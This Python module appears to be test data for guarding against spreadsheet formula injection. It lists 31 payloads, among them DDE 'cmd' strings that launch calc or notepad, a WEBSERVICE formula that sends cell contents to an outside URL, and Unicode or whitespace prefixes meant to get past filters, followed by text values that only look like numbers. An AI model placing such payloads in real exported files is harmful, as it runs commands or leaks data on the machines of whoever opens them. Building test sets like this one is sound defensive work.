"""What spreadsheets have run or changed: 31 payloads, and texts that only look like numbers.

Sources: OWASP, CSV Injection; the wide and zero-width starts were found to be taken for signs.
"""

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","Click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C notepad'!A1",
    "-cmd|' /C notepad'!A1",
    "@cmd|' /C notepad'!A1",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "=#REF!",
    "={1;2}",
    '="a"&"b"',
    "=A1:A9",
    "--1",
)

STAY_TEXT = ("007", "13/4", "1e3", "+44", "3-4", "1/2", "2019-06-03", "1,5", "TRUE", "1.10", "0x1F")
"""Names and codes that are no numbers, dates or truths."""
